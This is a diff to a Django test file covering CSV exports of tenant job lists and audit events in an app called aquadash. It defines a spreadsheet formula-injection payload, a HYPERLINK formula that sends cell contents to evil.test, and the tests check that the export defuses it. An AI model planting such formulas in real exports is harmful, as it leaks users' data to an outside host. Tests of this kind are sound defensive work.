@@ -2,6 +2,7 @@
 
 import csv
 import io
+import re
 
 import pytest
 from django.contrib.auth.models import Permission
@@ -9,7 +10,7 @@ from django.test import Client
 
 from aquadash import exports
 from aquadash import simulator as sim
-from aquadash.models import Download, Lookup
+from aquadash.models import AuditEvent, Download, Lookup
 
 HOSTILE_NAME = '=HYPERLINK("https://evil.test/?leak="&A1, "Open")'
 
@@ -49,15 +50,17 @@ def test_the_tenant_job_list_downloads_with_its_filters(client, simulator_tenant
     for job_id in (hostile, sim.RUNNING_JOB_ID):
         client.get(f"/t/sim/jobs/{job_id}/")
     page = client.get("/t/sim/jobs/?status=completed").content.decode()
-    assert 'href="?status=completed&amp;format=csv"' in page
+    assert "status=completed" in re.search(r'href="\?([^"]*format=csv)"', page)[1]
 
     table = rows(client.get("/t/sim/jobs/?status=completed&format=csv"))
 
-    assert table[0] == ["job_id", "name", "status", "first_seen_at", "last_fetched_at",
-                        "last_fetched_by__username", "gone_at"]  # fmt: skip
-    assert [row[0] for row in table[1:]] == [hostile]  # the running job is filtered out
-    assert table[1][1] == "'" + HOSTILE_NAME
-    assert table[1][3].endswith(("-08:00", "-07:00"))  # in the tenant's zone, Los Angeles
+    assert table[0] == ["Tenant", "Job ID", "Name", "Status", "Started", "Run time (seconds)",
+                        "Total records", "Batches done", "Batches total", "Last checked",
+                        "Last fetched by", "Gone from Zuora"]  # fmt: skip
+    assert [row[1] for row in table[1:]] == [hostile]  # the running job is filtered out
+    assert table[1][2] == "'" + HOSTILE_NAME
+    assert table[1][4].endswith(("-08:00", "-07:00"))  # in the tenant's zone, Los Angeles
+    assert table[1][6:9] == ["1", "1", "1"]
 
 
 def test_the_job_list_export_is_for_those_who_may_see_the_tenant(outsider_client, simulator_tenant):
@@ -107,3 +110,15 @@ def test_the_trails_are_exported_only_to_staff_who_may_read_them(client, make_us
 
     assert auditor.get("/admin/aquadash/lookup/export.csv").status_code == 200
     assert auditor.get("/admin/aquadash/download/export.csv").status_code == 403
+
+
+def test_admins_export_the_audit_events_as_filtered(
+    admin_client, outsider_client, simulator_tenant
+):
+    outsider_client.get("/t/sim/jobs/")  # refused: an access-denied event
+    AuditEvent.record(AuditEvent.Kind.CREDENTIALS_UNREADABLE, tenant=simulator_tenant, detail="x")
+
+    table = rows(admin_client.get("/admin/aquadash/auditevent/export.csv?kind=access_denied"))
+
+    assert table[0] == ["at", "kind", "username", "tenant_name", "target", "detail"]
+    assert [row[1:5] for row in table[1:]] == [["access_denied", "outsider", "Sim", "/t/sim/jobs/"]]
